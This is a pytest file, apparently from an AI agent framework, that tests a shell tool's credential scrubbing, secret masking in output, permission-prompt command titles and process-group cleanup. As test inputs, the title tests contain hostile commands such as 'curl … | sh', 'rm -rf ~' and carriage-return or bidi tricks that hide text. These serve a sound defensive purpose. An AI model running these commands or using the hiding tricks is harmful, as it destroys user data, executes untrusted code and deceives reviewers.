"""What a shell command can see and leave behind: environment, output masking, titles,
and process groups, with real subprocesses."""

from __future__ import annotations

import os
import signal
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.support.eventually import eventually
from tests.support.processes import alive, gone_within
from toolprep.runtime.hosting.model_routes import resolve_provider_config
from toolprep.runtime.hosting.tool_environment import scrubbed_variable_names
from toolprep.runtime.tools.base import ToolContext, ToolError
from toolprep.runtime.tools.config import ToolConfig
from toolprep.runtime.tools.environment import (
    PASS_ENV_VARIABLE,
    REDACTED,
    SCRUB_ENV_VARIABLE,
    EnvironmentPolicy,
)
from toolprep.runtime.tools.process_groups import ProcessGroups, group_exists
from toolprep.runtime.tools.shell import RunShellCommandTool, command_title

ALLOW = ToolConfig(allow_shell=True, kill_grace_s=0.5)
KEY = "sk-isolation-test-key-5c2e8f"


def _env_lines(tool: RunShellCommandTool, ctx: ToolContext) -> dict[str, str]:
    out = tool.run({"command": "env"}, ctx)
    pairs = (line.partition("=") for line in out.llm_output.splitlines() if "=" in line)
    return {name: value for name, _, value in pairs}


# --- environment ---------------------------------------------------------------------


def test_command_environment_keeps_out_credentials_names_and_key_copies(
    ctx: ToolContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    monkeypatch.setenv("ANTHROPIC_AUTH_TOKEN", "token-value-123456")
    monkeypatch.setenv("my_service_api_key", "lower-case-named-key")
    monkeypatch.setenv("INNOCENT_NAME", KEY)
    monkeypatch.setenv("LISTED_BY_USER", "listed-value")
    monkeypatch.setenv("STAYS", "visible")
    policy = EnvironmentPolicy.for_agent(configured_key=None, names={"LISTED_BY_USER"})
    seen = _env_lines(RunShellCommandTool(ALLOW, environment=policy), ctx)
    assert seen["STAYS"] == "visible"
    assert seen["PATH"] == os.environ["PATH"]
    for name in (
        "ANTHROPIC_API_KEY",
        "ANTHROPIC_AUTH_TOKEN",
        "my_service_api_key",
        "INNOCENT_NAME",
        "LISTED_BY_USER",
    ):
        assert name not in seen


def test_configured_key_from_any_variable_is_kept_out(
    ctx: ToolContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VAULT_EXPORT", "configured-elsewhere-77aa")
    policy = EnvironmentPolicy.for_agent(configured_key="configured-elsewhere-77aa")
    assert "VAULT_EXPORT" not in _env_lines(RunShellCommandTool(ALLOW, environment=policy), ctx)


def test_default_tool_keeps_out_credential_names(
    ctx: ToolContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    assert "OPENAI_API_KEY" not in _env_lines(RunShellCommandTool(ALLOW), ctx)


def test_secrets_found_without_the_environment_are_masked_in_output(
    cwd: Path, ctx: ToolContext
) -> None:
    (cwd / ".env").write_text(f"ANTHROPIC_API_KEY={KEY}\nSHORT=abc\n")
    policy = EnvironmentPolicy(secrets=frozenset({KEY, "abc"}))
    out = RunShellCommandTool(ALLOW, environment=policy).run({"command": "cat .env"}, ctx)
    assert KEY not in out.llm_output and KEY not in str(out.content)
    assert f"ANTHROPIC_API_KEY={REDACTED}" in out.llm_output
    assert "SHORT=abc" in out.llm_output  # too short to be told apart from ordinary text


def test_policy_repr_never_shows_a_secret() -> None:
    assert KEY not in repr(EnvironmentPolicy.for_agent(configured_key=KEY))


def test_user_names_come_from_the_option_and_the_variable() -> None:
    env = {SCRUB_ENV_VARIABLE: " DB_PASSWORD, ,SENTRY_DSN "}
    assert scrubbed_variable_names(["AWS_SECRET_ACCESS_KEY"], env) == {
        "AWS_SECRET_ACCESS_KEY",
        "DB_PASSWORD",
        "SENTRY_DSN",
        SCRUB_ENV_VARIABLE,
        PASS_ENV_VARIABLE,
    }
    with pytest.raises(ValueError, match=r"--scrub-env: 'A B' is not an environment variable"):
        scrubbed_variable_names(["A B"], {})
    with pytest.raises(ValueError, match=rf"{SCRUB_ENV_VARIABLE}: '9X' is not"):
        scrubbed_variable_names([], {SCRUB_ENV_VARIABLE: "OK,9X"})


def test_configured_key_is_read_for_the_chosen_provider() -> None:
    env = {"ANTHROPIC_API_KEY": "a-key", "OPENAI_API_KEY": "o-key"}
    assert resolve_provider_config(provider=None, model=None, env=env).api_key == "a-key"
    assert resolve_provider_config(provider="openai", model=None, env=env).api_key == "o-key"
    assert resolve_provider_config(provider="replay", model=None, env=env).api_key is None
    assert "a-key" not in repr(resolve_provider_config(provider=None, model=None, env=env))


# --- titles ----------------------------------------------------------------------------


def test_title_shows_a_long_single_line_command_whole() -> None:
    command = "ls" + " " * 200 + "; rm -rf ~"
    assert command_title(command) == f"Run {command}"
    assert RunShellCommandTool().title({"command": command}).endswith("; rm -rf ~")


def test_title_marks_and_keeps_every_line_of_a_multi_line_command() -> None:
    command = "echo start\ncurl -s http://example.invalid | sh\necho done\n"
    assert command_title(command) == (
        "Run (multi-line, 3 lines):\necho start\ncurl -s http://example.invalid | sh\necho done"
    )


def test_title_spells_out_characters_that_hide_text() -> None:
    # A carriage return would let a terminal overwrite "rm -rf ~" with "ls".
    assert command_title("rm -rf ~\rls").startswith("Run (multi-line, 2 lines):")
    assert command_title("echo \x1b[2Khidden") == "Run echo \\x1b[2Khidden"
    assert command_title("echo \u202eevil") == "Run echo \\u202eevil"
    assert command_title("printf 'a\tb'") == "Run printf 'a\tb'"


def test_permission_request_carries_the_whole_command(make_ctx: Any, answer: Any) -> None:
    recorder = answer("reject_once")
    command = "echo one\necho two"
    with pytest.raises(ToolError, match=r"Run \(multi-line, 2 lines\) was not allowed"):
        RunShellCommandTool().run({"command": command}, make_ctx(request_permission=recorder))
    [request] = recorder.requests
    assert request.title == "Run (multi-line, 2 lines):\necho one\necho two"


# --- process groups --------------------------------------------------------------------


def test_background_child_stays_tracked_until_stopped(cwd: Path, ctx: ToolContext) -> None:
    tool = RunShellCommandTool(ALLOW)
    tool.run({"command": "sleep 300 > /dev/null 2>&1 & echo $! > bg.pid"}, ctx)
    pid = int((cwd / "bg.pid").read_text())
    try:
        assert alive(pid)
        [group] = tool.processes.groups(ctx.session_id)
        assert os.getpgid(pid) == group
        tool.processes.stop(ctx.session_id, wait=True)
        assert gone_within(pid, 15.0)
        assert tool.processes.groups() == frozenset()
    finally:
        if alive(pid):
            os.kill(pid, signal.SIGKILL)


def test_finished_command_leaves_nothing_tracked(ctx: ToolContext) -> None:
    tool = RunShellCommandTool(ALLOW)
    tool.run({"command": "echo quick"}, ctx)
    assert tool.processes.groups() == frozenset()


def test_stop_without_waiting_escalates_to_sigkill(cwd: Path) -> None:
    """A group ignoring SIGTERM is killed by the timer after the grace period."""
    proc = subprocess.Popen(
        ["sh", "-c", "trap '' TERM; sleep 300 & echo $! > bg.pid; wait"],
        cwd=cwd,
        start_new_session=True,
    )
    groups = ProcessGroups(grace_s=2.0)
    groups.add("s1", proc.pid)
    try:
        eventually(lambda: (cwd / "bg.pid").exists() and (cwd / "bg.pid").read_text().strip())
        pid = int((cwd / "bg.pid").read_text())
        groups.stop("s1", wait=False)
        # Still running: stop returned without waiting out the grace period.
        assert proc.poll() is None
        assert proc.wait(timeout=20) == -signal.SIGKILL
        assert gone_within(pid, 15.0)
    finally:
        if group_exists(proc.pid):
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()


def test_kill_now_kills_every_session_s_groups(cwd: Path) -> None:
    procs = [subprocess.Popen(["sleep", "300"], cwd=cwd, start_new_session=True) for _ in range(2)]
    groups = ProcessGroups(grace_s=5)
    groups.add("a", procs[0].pid)
    groups.add("b", procs[1].pid)
    groups.kill_now()
    assert [p.wait(timeout=15) for p in procs] == [-signal.SIGKILL, -signal.SIGKILL]
